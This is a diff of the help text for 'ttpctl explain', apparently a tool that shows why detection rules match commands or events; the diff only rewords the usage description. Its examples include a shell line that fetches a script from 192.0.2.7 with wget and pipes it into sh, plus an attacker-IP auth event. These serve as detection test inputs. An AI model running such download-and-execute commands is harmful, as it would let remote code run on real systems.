@@ -34,12 +34,12 @@ or does not: each part of its match, with the values it looked at.
 
 The input is a command line (several arguments are joined by a blank; quote
 it, or put -- before it, when it has options), an event as JSON, or - for
-stdin: one or the other on each line, at most 1,000 of them. What begins with
-{ and a name in double quotes is an event. Values that may not be evidence,
+stdin: one or the other on each line, at most 1,000 of them. A line that begins
+with { and a name in double quotes is an event. Values that may not be evidence,
 such as passwords, are not shown.
 
 Exit code 2 says that there was no input, that an event is malformed or that
-no rule has that id; a rule that does not fire is no failure.`,
+no rule has that id. A rule that does not fire is not a failure.`,
 		Example: `  ttpctl explain 'cd /tmp; wget http://192.0.2.7/x.sh -O- | sh'
   ttpctl explain --rule R0012 'echo wget http://192.0.2.7/x.sh'
   ttpctl explain --event '{"source_kind":"auth_attempt","source_id":"a1","attacker_ip":"192.0.2.7","payload":{"username":"root"}}'
